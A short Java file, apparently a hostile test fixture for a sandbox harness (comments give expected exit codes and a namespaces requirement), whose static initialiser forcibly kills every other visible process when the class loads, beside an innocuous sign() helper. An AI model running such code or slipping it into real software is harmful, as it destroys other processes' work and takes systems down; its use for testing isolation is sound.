// hostile: ends every process that it can see, when the class is initialised
// exit: 0 3 4
// needs: namespaces
public class EndsEveryone {
    static {
        long own = ProcessHandle.current().pid();
        ProcessHandle.allProcesses().filter(process -> process.pid() != own).forEach(ProcessHandle::destroyForcibly);
    }

    public static int sign(int x) {
        return x > 0 ? 1 : x < 0 ? -1 : 0;
    }
}
